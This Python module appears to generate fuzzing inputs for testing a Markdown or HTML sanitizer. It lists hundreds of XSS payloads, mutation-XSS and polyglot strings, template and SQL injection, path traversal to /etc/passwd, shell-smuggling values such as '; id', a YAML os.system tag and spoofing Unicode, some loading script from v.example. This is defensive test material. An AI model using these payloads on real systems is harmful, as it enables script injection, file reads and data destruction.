"""Make words that try to leave the place they are put in, and the known ways to smuggle in a script."""

from __future__ import annotations

from itertools import cycle
from urllib.parse import quote

RUN = "<script>alert(1)</script>"

ENDS = (
    '"', "'", "`", "\"'", "\"'`", '">', "'>", '"/>', "'/>", '">\'>', "</", "</a>", "</p>", "</li>", "</h1>", "</title>", "</textarea>", "</style>", "</script>",
    "</script >", "</SCRIPT>", "</noscript>", "</template>", "</iframe>", "</svg>", "</math>", "</select>", "</table>", "</body>", "</html>", "</article>", "</main>",
    "</head>", "</header>", "</section>", "-->", "--!>", "--", "<!--", "<!-->", "<!--->", "]]>", "]]&gt;", "<![CDATA[", "?>", "<?xml version='1.0'?>", "<!DOCTYPE x>", "<!ENTITY a 'b'>",
    "\\", '\\"', "\\'", '\\\\"', '"}', '"]}', '"},{"a":"b', "'}];", "*/", "//", "/*", ";", "&quot;>", "&#34;>", "&#x22;>", "%22>", "\\u0022>", "\\x22>", "\u201d>",
)  # fmt: skip

LOADS = (
    RUN, "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<b onclick=alert(1)>b</b>", "<base href=//v.example/>", "<style>*{display:none}</style>",
)  # fmt: skip

TEMPLATES = (
    "{{7*7}}", "{{ 7*'7' }}", "{{ settings }}", "{{ self.__init__.__globals__ }}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{% endraw %}", "{% endblock %}", "{% include 'base.html' %}", "{# a #}", "{{", "}}", "{%", "%}", "{#", "#}", "{{{a}}}", "${7*7}", "#{7*7}", "@{7*7}",
    "<%= 7*7 %>", "<% a %>", "<?php a() ?>", "<?= a ?>", "<#assign a>", "[[${7*7}]]", "*{7*7}", "~{a}", "[% a %]", "{{< a >}}", "{{% a %}}", "[a id=1]", "{$a}", "{{constructor.constructor('a')()}}", "{% a", "{{ a | safe }}", "{{ content }}", "{{ head|policy }}",
    "%s", "%n%n%n", "%d%x", "%(title)s", "%%", "{}", "{0}", "{title}", "{0.__class__}", "{:>999999}", "{!r}", "$a", "$$", "$(id)", "`id`", "| id", "&& id", "; id", "\\0", "\\1", "\\g<0>", "\\n", "\\r\\n", "\\x00", "\\u0000",
)  # fmt: skip

PATHS = (
    "../../../etc/passwd", "..\\..\\..\\x", "..%2f..%2fx", "%2e%2e/%2e%2e/x", "..%252f..%252fx", "....//....//x", "/etc/passwd", "//v.example/x", "\\\\v.example\\x", "C:\\x\\y", "C:/x", "file:///etc/passwd", "~/x", "~root", ".", "..", "...", "./", "../", "a/../b", "a/./b", "a//b", ".htaccess", "_headers", "robots.txt", "index.html", "index",
    "con", "nul", "aux.txt", "com1", "lpt9.md", "a.md", "a.md.html", "a:b", "a?b", "a#b", "a?b=c&d=e#f", "a%00b", "a%0d%0ab", "a%", "%", "%zz", "%u003c", "a;b", "a&b", "a=b", "a+b", "a,b", "a|b", "a*b", "a b", "a@b", "a!b", "a\\b", "assets", "tags", "feed.xml", "content/posts/a.md", "CON.", "a.",
)  # fmt: skip

ADDRESSES = (
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "jAvAsCrIpT:alert(1)", "javascript://v.example/%0aalert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)", "javascript :alert(1)", "javascript&colon;alert(1)", "javascript%3aalert(1)", "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)", "livescript:a", "mocha:a", "data:text/html,<b>", "data:text/html;base64,PGI+", "data:image/svg+xml,<svg/onload=a()>", "data:,a", "blob:https://v.example/a", "filesystem:https://v.example/a", "view-source:a", "about:blank", "chrome://a", "ms-its:a", "jar:https://v.example!/a", "feed:javascript:a()", "res://a", "mhtml:a", "wyciwyg://a", "x-a:b",
    "http://", "https://", "http:///a", "https:v.example", "https:/v.example", "https:\\\\v.example", "http://a@v.example/", "http://a:b@v.example/", "http://[::1]/", "http://[a]/", "http://v.example:99999/", 'http://v.example/"onclick=a()', "https://v.example/'onclick='a()", "https://v.example/<b>", 'https://v.example/?a=<b>&b="c"', 'https://v.example/#"><b>', "https://v.example/ a", "https://v.example/{{7*7}}", "https://v.example/a)b", "https://v.example/\\",
    "https://v.example/a;b='c'", "https://v.example/$&*()!~", "//v.example", "///v.example", "/\\v.example", "\\/v.example", "https://xn--a.example/", "https://é.example/", "https://1.1/", "https://0x7f.1/", "mailto:a@b.example", 'mailto:a@b.example?subject="><b>', "mailto:%0d%0aBcc:c@d.example", "tel:+1", "ftp://v.example/", "a@b.example", 'a"b@c.example', 'a@b.example"><b>', "<a@b.example>", "<https://v.example/>", "#", '#a"b', "?", '?a="b',
)  # fmt: skip

QUERIES = (
    "' OR '1'='1", '" OR ""="', "'; DROP TABLE posts; --", "1; SELECT pg_sleep(9)", "' UNION SELECT NULL --", "admin'--", "*)(uid=*", "' or count(/a)=1 or 'a'='b", "$where: 1", "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("https://v.example")', "\t=1", "a\r\nSet-Cookie: b=c", "a\r\n\r\n<b>", "a\nAllow: /\nDisallow: /x", "a\n\n# b", "() { :; }; a", "!!1", "<esi:include src=a/>", "<!--#exec cmd='id'-->", "<!--#include file='a'-->",
)  # fmt: skip

WORDS = (
    "null", "NULL", "nil", "None", "undefined", "NaN", "Infinity", "-Infinity", "true", "True", "false", "yes", "No", "on", "off", "y", "N", "~", "~null", "void", "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__class__", "__init__", "self", "settings", "[object Object]",
    "0", "-0", "00", "007", "1", "+1", "-1", ".1", "1.", "1e3", "1e309", "-1e-309", "0x1F", "0o17", "0b11", "1_000", "1,000", "1:30", "190:20:30", "2026-02-12", "2026-02-12T10:00:00Z", "12/02/2026", "99999999999999999999", "2147483648", "-2147483649", "4294967296", "1/0", "½", "²", "Ⅻ", "٣", "一", "∞", "0.1+0.2", "1'000",
)  # fmt: skip

HEADS = (
    "---", "--- a", "...", "+++", "a: b", ": a", "a:", "- a", "-", "? a", "! a", "!!python/object:os.system a", "!!binary aGk=", "&a b", "*a", "<<: *a", "| a", "> a", "|", ">-", "[a, b]", "[", "]", "{a: b}", "{", "}", "# a", "a # b", "a #b", "%YAML 1.2", "%TAG ! a", "@a", "`a`", "'a'", '"a"', "''", '""', "'''a'''", '"""a"""', "[a]", "[[a]]", "a = b", "a.b = 1", "a, b", ",", ",,", "a\\", "\\",
)  # fmt: skip

MARKS = (
    "*a*", "**a**", "***a***", "_a_", "__a__", "~~a~~", "`a`", "``a`", "```", "```a", "~~~", "# a", "###### a", "a\n===", "a\n---", "> a", ">>> a", "> [!NOTE] a", "1. a", "* a", "+ a", "- [x] a", "    a", "\ta", "[a](b)", "[a](javascript:b)", "[a](<b>)", '[a](b "c")', "[a](b 'c\"d')", "[a][b]", "[a]", "[a]: b", "[]()", "[](a)", "![a](b)", "![](a)", "![a][b]", "![a](https://v.example/a.png)", "![a](javascript:b)", "[![a](b)](c)",
    "[^a]", "[^a]: b", "*[a]: b", "[TOC]", "[[a]]", "!!! note", '!!! note "a"', "??? a", "| a | b |", "|---|", "a | b", "||", "***", "- - -", "===", "{: .a }", "{: #a }", "{: onclick=a }", "{#a}", "{.a}", "{: style='a' }", 'a {: title="b" }', "<a>", "<b>a</b>", "<a@b>", "<!-- a -->", "&amp;", "&lt;b&gt;", "&#60;b&#62;", "&#x3C;b&#x3E;", "&#0;", "&#xD800;", "&#x110000;", "&#128;", "&#10;", "&nbsp;", "&copy", "&ampamp;", "&amp;lt;b&amp;gt;", "&NotEqualTilde;", "&bogus;", "&", "&;", "&#", "&#x", "&#;",
    "\\*a\\*", "\\<b\\>", "\\[a\\]", "a  \nb", "a\\\nb", "--", "---a", "...a", "'a' \"b\"", "<<a>>", "(c)", "a'b'c\"d\"", "a^b^", "a~b~", "==a==", "++a++", ":a:", "$a$", "$$a$$", "\\(a\\)", "@a", "#a", "http://v.example", "www.v.example", "klzzwxh:0000", "wzxhzdk:0", "\u2402klzzwxh:0000\u2403", "STX", "ETX", "zz1337820767766393qq",
)  # fmt: skip

SIGNS = (
    "a\u00a0b", "a\u00adb", "a\u034fb", "a\u061cb", "a\u115fb", "a\u1680b", "a\u180eb", "a\u2003b", "a\u200bb", "a\u200cb", "a\u200db", "a\u200eb", "a\u200fb", "a\u2028b", "a\u2029b", "a\u202ab", "a\u202bb", "a\u202cb", "a\u202db", "a\u202eb", "a\u202fb", "a\u2060b", "a\u2061b", "a\u2064b", "a\u2066b", "a\u2067b", "a\u2068b", "a\u2069b", "a\u206ab", "a\u2800b", "a\u3000b", "a\u3164b", "a\ufe0fb", "\ufeffa", "a\ufeffb", "a\uff9eb", "a\ufff9b\ufffac\ufffb", "a\ufffcb", "a\ufffdb", "a\U000e0041b", "a\U000e0001b", "a\U0001d173b", "a\U000e0100b",
    "a\ue000b", "a\U000f0000b", "a\ud7ffb", "a\uf8ffb", "a\ufdd0b", "a\U0001fffeb", "a\U0010fffdb", "a\tb", "a\nb", "a  b", " a ", "a\n\n\nb", "\u2028a", "a\u2029",
    "e\u0301", "\u0301a", "Z" + "\u0300\u0316\u0334\u035c" * 40, "a" + "\u20dd" * 9, "x\u0338", "\u1100\u1161\u11a8", "a" * 400, "ab " * 150, "word" * 100, "\u6f22" * 200, "\U0001f600" * 60, "-" * 200, "<" * 200, '"' * 200, "&" * 200, "(" * 200, "[" * 120, "{" * 120, "*" * 120, "`" * 120, "> " * 90,
    "שלום", "مرحبا", "\u202eevil\u202c", "\u2067a\u2069b", "abc שלום 123", "ﷺ", "ﷲ", "日本語", "한국어", "ไทย", "हिन्दी", "ქართული", "ᏣᎳᎩ", "𓀀𓁀", "𒀀", "ꙮ", "ᚠᚢ", "⠓⠊", "ß", "ẞ", "İ", "ı", "ﬁ", "ﬀ", "Ǆ", "ŉ", "ΐ", "Å", "Å", "K", "µ", "𝕒𝖇𝓬", "ＡＢＣ", "①", "㎏", "㍻", "аррle", "ρaypal", "g\u043e\u043egle",
    "😀", "👩\u200d👩\u200d👧\u200d👦", "👍🏽", "🇧🇪", "🇧", "🏴\U000e0067\U000e0062\U000e007f", "1\ufe0f\u20e3", "☺\ufe0e", "☺\ufe0f", "❤", "🫠", "©", "™", "→", "…", "“a”", "«a»", "‹a›", "„a“", "—", "–", "‐", "−", "·", "•", "§", "¿", "¡", "‽", "⁇", "✂", "♥", "∑∫√",
    "＜script＞a()＜/script＞", "＂＞a", "‹script›a()‹/script›", "\u2039b\u203a", "\u02bcb", "\uff07b", "\u2032b", "\u02bab", "\ufe64b\ufe65", "\u226eb", "\u003c\u0338b", "¼script¾a()¼/script¾", "+ADw-b+AD4-", "\\u003cb\\u003e", "\\x3cb\\x3e", "\\74b\\76", "%3Cb%3E", "%253Cb%253E", "%C0%BCb", "%u003Cb%u003E", "=3Cb=3E", "PGI+", "&lt;img src=x onerror=a()&gt;",
)  # fmt: skip


def disguised(text: str) -> tuple[str, ...]:
    """Write a text in the ways that a careless reader of it would undo."""
    return (
        "".join(f"&#{ord(sign)};" for sign in text),
        "".join(f"&#x{ord(sign):x}" for sign in text),
        text.replace("<", "&lt;").replace(">", "&gt;"),
        text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
        quote(text, safe=""),
        quote(quote(text, safe=""), safe=""),
        "".join(f"\\u{ord(sign):04x}" for sign in text),
        text.replace("<", "<\u200b"),
        text.replace("<", "< "),
        text.replace("<", "<<"),
        text.upper(),
    )


def hostile() -> list[str]:
    """List the words, each once; each of them shows something."""
    leaving = (f"{end}{load}" for end, load in zip(ENDS, cycle(LOADS), strict=False))
    closing = (f"a{end}" for end in ENDS)
    hidden = (one for load in LOADS for one in disguised(load))
    amid = (f"before {load} after" for load in LOADS)
    attributes = (
        f"a{sign}onmouseover={sign}alert(1)" for sign in (" ", '" ', "' ", "` ", '"/', "\t", "\n")
    )
    others = (*TEMPLATES, *PATHS, *ADDRESSES, *QUERIES, *WORDS, *HEADS, *MARKS, *SIGNS)
    return list(dict.fromkeys((*leaving, *closing, *hidden, *amid, *attributes, *others)))


SCRIPTS = (
    "<script>a()</script>", "<SCRIPT>a()</SCRIPT>", "<sCrIpT>a()</ScRiPt>", "<script\t>a()</script\t>", "<script\n>a()</script\n>", "<script/>a()</script>", "<script/a=b>a()</script>", '<script a=">">a()</script>', "<script a='>'>a()</script>", "<script src=//v.example/a.js></script>", "<script src=data:,a()></script>", "<script async defer src=//v.example/a>", "<script type=module>a()</script>", "<script type=text/vbscript>a</script>", "<script type=application/json>{}</script>", "<script>a()", "<script", "<script src=//v.example/a", "< script>a()</ script>", "<<script>a()//<</script>", "<scr<script>ipt>a()</scr</script>ipt>", "<scr\u200bipt>a()</script>", "</script><script>a()</script>", "<script><!--<script>a()</script>-->", "<script>//<![CDATA[\na()//]]></script>", "<a><script>a()</script></a>", "<div><script>a()</div></script>", "<p><script>a()</p>", "<table><script>a()</script></table>", "<noscript><script>a()</script></noscript>",
)  # fmt: skip

EVENTS = (
    "<img src=x onerror={}>", "<img onload={} src=c.png>", "<svg onload={}>", "<svg/onload={}>", "<svg><g onload={}>", "<body onload={}>", "<body onpageshow={}>", "<body onresize={}>", "<html onmousemove={}>", "<input onfocus={} autofocus>", "<select onfocus={} autofocus>", "<textarea onfocus={} autofocus>", "<button onclick={}>b</button>", "<details open ontoggle={}>b</details>", "<summary onclick={}>b</summary>", "<marquee onstart={}>b</marquee>", "<video onloadstart={} src=x>", "<video><source onerror={}></video>", "<audio oncanplay={} src=x>", "<iframe onload={}></iframe>", "<object onerror={}>", "<embed onload={}>", "<link onload={} rel=stylesheet href=x>", "<style onload={}></style>", "<a onmouseover={}>b</a>", "<a href=https://v.example/ onfocus={} id=z>b</a>", "<b onanimationend={}>b</b>", "<i ontransitionend={}>b</i>", "<p onpointerover={}>b</p>", "<div onwheel={}>b</div>", "<span onscrollend={}>b</span>", "<table onclick={}><tr><td>b</table>", "<td onclick={}>b", "<li onclick={}>b", "<h1 onclick={}>b</h1>", "<blockquote onclick={}>b</blockquote>", "<pre onclick={}>b</pre>", "<code onclick={}>b</code>", "<made-up onclick={}>b</made-up>", "<b/onclick={}/c>b</b>", "<b\nonclick\n=\n{}>b</b>", "<b ONCLICK={}>b</b>", "<b a=b'onclick={}>b</b>", "</b onclick={}>", "<b class=c onclick={} id=d>b</b>", "<b contenteditable onbeforeinput={}>b</b>", "<div popover onbeforetoggle={}>b</div>", "<dialog open oncancel={}>b</dialog>",
)  # fmt: skip
CALLS = ("a()", '"a()"', "'a()'", "`a()`", "a&#40;)", "&#97;()", "a//")

SPELLED = (
    "javascript:a()", "JavaScript:a()", "java\tscript:a()", "java\nscript:a()", "java&Tab;script:a()", "java&NewLine;script:a()", "java&#9;script:a()", "java&#x0A;script:a()", "&#x6A;avascript:a()", "&#106&#97vascript:a()", "&#0000106;avascript:a()", "javascript&colon;a()", "javascript&#58;a()", "javascript&#x3a;a()", " javascript:a()", "&#1;javascript:a()", "&#x20;&#14;javascript:a()", "\u2028javascript:a()", "javascript:%61()", "javascript:/*</a>*/a()", "javascript://%0aa()", "vbscript:a", "data:text/html,<script>a()</script>", "data:text/html;base64,PHNjcmlwdD5hKCk8L3NjcmlwdD4=", "data:image/svg+xml;base64,PHN2Zz4=", "blob:a", "file:///etc/passwd", "feed:javascript:a()", "jar:javascript:a()!", "//v.example\t/a", "livescript:a()",
)  # fmt: skip
HOLDERS = (
    '<a href="{}">b</a>', "<a href='{}'>b</a>", '<img src="{}">', '<iframe src="{}"></iframe>', '<form action="{}"><input type=submit></form>', '<button formaction="{}">b</button>', '<object data="{}"></object>', '<embed src="{}">', '<svg><a xlink:href="{}"><text>b</text></a></svg>', '<math href="{}">b</math>', '<base href="{}">', '<link rel=stylesheet href="{}">', '<video poster="{}"></video>', '<blockquote cite="{}">b</blockquote>', '<q cite="{}">b</q>', '<del cite="{}">b</del>', '<img srcset="{} 2x">', '<body background="{}">', '<a ping="{}" href="https://v.example/">b</a>', '<area href="{}">',
)  # fmt: skip

LOADERS = (
    "<iframe srcdoc='<script>a()</script>'></iframe>", "<iframe srcdoc=&lt;script&gt;a()&lt;/script&gt;>", "<frameset><frame src=//v.example></frameset>", "<object type=text/html data=//v.example></object>", "<object><param name=movie value=//v.example/a.swf></object>", "<applet code=A archive=//v.example/a.jar></applet>", "<embed type=image/svg+xml src=//v.example/a>", "<meta http-equiv=refresh content=0;url=//v.example>", "<meta http-equiv=refresh content='0; url=javascript:a()'>", "<meta http-equiv=set-cookie content=a=b>", "<meta http-equiv=content-security-policy content=a>", "<meta name=referrer content=unsafe-url>", "<meta charset=utf-7>", "<link rel=import href=//v.example>", "<link rel=preload as=script href=//v.example/a>", "<link rel=dns-prefetch href=//v.example>", "<link rel=manifest href=a>", "<style>@import '//v.example/a';</style>", "<style>b{background:url(//v.example/a)}</style>", "<style>b{width:expression(a())}</style>", "<style>@\\69mport 'a';</style>", "<b style=background:url(//v.example/a)>b</b>", "<b style='width:expr/**/ession(a())'>b</b>", "<b style='behavior:url(a.htc)'>b</b>", "<b style='-moz-binding:url(a#b)'>b</b>", "<b style='position:fixed;inset:0'>b</b>", "<bgsound src=//v.example/a>", "<layer src=//v.example/a></layer>", "<ilayer src=a>", "<xml src=a></xml>", "<table background=//v.example/a></table>", "<img dynsrc=a lowsrc=b>", "<img src=https://v.example/a.png>", "<img src=//v.example/a.png>", "<image src=x onerror=a()>", "<picture><source srcset=//v.example/a><img src=c.png></picture>", "<video src=//v.example/a autoplay></video>", "<track src=//v.example/a>", "<portal src=//v.example></portal>", "<fencedframe src=//v.example>", "<isindex action=javascript:a()>", "<keygen name=a>", "<input type=image src=//v.example/a formaction=a>", "<form id=f></form><button form=f formaction=//v.example>b</button>", "<base target=_top>", "<a href=https://v.example/ target=_blank>b</a>", "<a href=https://v.example/ rel=opener>b</a>", "<a href=https://v.example/ referrerpolicy=unsafe-url>b</a>", "<a download=a href=c.png>b</a>", "<map name=m><area shape=rect href=javascript:a()></map><img usemap=#m src=c.png>", "<slot name=a></slot>", "<canvas id=c></canvas>",
)  # fmt: skip

MUTATIONS = (
    "<svg><script>a()</script></svg>", "<svg><script xlink:href=//v.example/a></script></svg>", "<svg><style><img src=x onerror=a()></style></svg>", "<svg></p><style><a title='</style><img src=x onerror=a()>'>", "<svg><desc><p title='</desc></svg><img src=x onerror=a()>'>", "<svg><foreignObject><body onload=a()></foreignObject></svg>", "<svg><animate attributeName=href values=javascript:a() /></svg>", "<svg><set attributeName=onmouseover to=a() /></svg>", "<svg><use xlink:href='data:image/svg+xml,<svg/>#a'/></svg>", "<svg><![CDATA[<img src=x onerror=a()>]]></svg>", "<svg><title><script>a()</script></title></svg>", "<math><annotation-xml encoding=text/html><script>a()</script></annotation-xml></math>", "<math><maction actiontype=statusline xlink:href=javascript:a()>b</maction></math>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=a()&gt;'>", "<math><mtext><option><fake><option></option><mglyph><svg><mtext><style><a title='</style><img src onerror=a()>'>", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=a() src>'>", "<noscript><p title='</noscript><img src=x onerror=a()>'>", "<noembed><p title='</noembed><img src=x onerror=a()>'>", "<noframes><p title='</noframes><img src=x onerror=a()>'>", "<xmp><p title='</xmp><img src=x onerror=a()>'>", "<title><p title='</title><img src=x onerror=a()>'>", "<textarea><p title='</textarea><img src=x onerror=a()>'>", "<iframe><p title='</iframe><img src=x onerror=a()>'>", "<style><p title='</style><img src=x onerror=a()>'>", "<plaintext><img src=x onerror=a()>", "<listing>&lt;img src=x onerror=a()&gt;</listing>", "<template><img src=x onerror=a()></template>", "<template shadowrootmode=open><script>a()</script></template>", "<div><template><div></template><script>a()</script></div>", "<select><template><script>a()</script></template></select>", "<select><option><style></option></select><img src=x onerror=a()></style>", "<table><caption><svg></caption><img src=x onerror=a()></table>", "<table><td><a></td><a onclick=a()>b</table>", "<a href=https://v.example/><a onclick=a()>b</a></a>", "<b><p></b><i onclick=a()></p>", "<!--><script>a()</script>-->", "<!---><img src=x onerror=a()>-->", "<!-- --!><img src=x onerror=a()> -->", "<!--[if IE]><script>a()</script><![endif]-->", "<!-- > <img src=x onerror=a()> -->", "<![CDATA[><img src=x onerror=a()>]]>", "<?xml ><img src=x onerror=a()> ?>", "<!a><script>a()</script>", "</><img src=x onerror=a()>", "<%<script>a()</script>%>", "<p title=`<img src=x onerror=a()>`>b</p>", "<p title='\"><img src=x onerror=a()>'>b</p>", '<p title="\'><img src=x onerror=a()>">b</p>', '<p title="&quot;><img src=x onerror=a()>">b</p>', '<img """><script>a()</script>">', '<img src="c.png" alt="`><script>a()</script>">', "<b title='a\nb'onclick='a()'>b</b>", "<b id=x id=y onclick=a()>b</b>", "<b =onclick=a()>b</b>", '<b "onclick=a()>b</b>', "<b <b onclick=a()>b</b>", "<b\x0conclick=a()>b</b>", "<b\u00a0onclick=a()>b</b>", "&lt;script&gt;a()&lt;/script&gt;", "&#60;script&#62;a()&#60;/script&#62;", "&amp;lt;script&amp;gt;a()", "%3Cscript%3Ea()%3C/script%3E", "\\u003cscript\\u003ea()", "+ADw-script+AD4-a()+ADw-/script+AD4-", "＜script＞a()＜/script＞", "<\u200bscript>a()</script>", "<scri\u0307pt>a()</script>", "<\u017fcript>a()</script>", "<\u212abd>b</\u212abd>", "<img src=x:x onerror\u2028=a()>", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */a() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=a()//>\\x3e",
)  # fmt: skip


def forms() -> list[str]:
    """List the known forms of scripts, each once."""
    called = (event.format(call) for event, call in zip(EVENTS, cycle(CALLS), strict=False))
    linked = (HOLDERS[0].format(one) for one in SPELLED)
    held = (one.format(spelled) for one, spelled in zip(HOLDERS, cycle(SPELLED), strict=False))
    return list(dict.fromkeys((*SCRIPTS, *called, *linked, *held, *LOADERS, *MUTATIONS)))


def forbidden() -> list[str]:
    """List what neither HTML nor XML can hold, as escapes of YAML and of TOML."""
    controls = (*range(0x09), 0x0B, 0x0C, *range(0x0D, 0x20), *range(0x7F, 0xA0), 0xFFFE, 0xFFFF)
    return [f"\\u{number:04x}" for number in controls]
